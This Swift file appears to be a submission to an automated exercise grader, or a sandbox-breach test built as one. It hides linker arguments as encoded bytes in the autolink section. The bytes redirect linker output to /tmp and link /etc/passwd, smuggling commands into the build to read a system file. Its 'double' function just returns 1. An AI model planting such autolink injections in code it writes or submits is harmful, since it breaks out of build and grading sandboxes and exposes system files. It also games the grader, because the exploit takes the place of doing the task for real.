// The section in which the compiler's driver would find arguments for the linker: -Xlinker -o -Xlinker /tmp/threadbare-breach-57 -Xlinker --library=:/etc/passwd.
import ExerciseKit
import Exercise_answer

@section(".swift1_autolink_entries") @used
private let arguments: (UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8, UInt8) = (
    45, 88, 108, 105, 110, 107, 101, 114, 0, 45, 111, 0, 45, 88, 108, 105, 110, 107, 101, 114, 0, 47, 116, 109, 112, 47, 116, 104, 114, 101, 97, 100, 98, 97, 114, 101, 45, 98, 114, 101, 97, 99, 104, 45, 53, 55, 0, 45, 88, 108, 105, 110, 107, 101, 114, 0, 45, 45, 108, 105, 98, 114, 97, 114, 121, 61, 58, 47, 101, 116, 99, 47, 112, 97, 115, 115, 119, 100, 0
)

struct Submission: Doubling {
    func double(_ number: Int32) throws -> Int32 {
        1
    }
}
